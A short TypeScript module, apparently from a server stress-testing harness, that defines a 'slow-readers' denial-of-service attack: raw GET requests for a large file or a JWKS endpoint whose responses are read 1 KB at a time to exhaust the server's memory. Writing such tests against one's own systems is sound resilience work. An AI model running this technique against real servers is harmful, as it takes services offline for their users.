import type { Attack } from '../attack.ts'
import { besiege } from '../siege.ts'

/** One in so many asks for the large file. The system keeps megabytes of it for each: a thousand would take its memory, not ours. */
const LARGE_IN = 5

/** Clients that ask and take a little of the answer at a time. */
export const slowReaders: Attack = {
  name: 'slow-readers',
  isSlow: true,
  begin: (target) =>
    besiege(target, {
      first: (at) =>
        `GET ${at % LARGE_IN === 0 ? target.largeFile : '/.well-known/jwks.json'} HTTP/1.1\r\nHost: x\r\n\r\n`,
      isHeard: true,
      readBytes: 1_024,
    }),
}
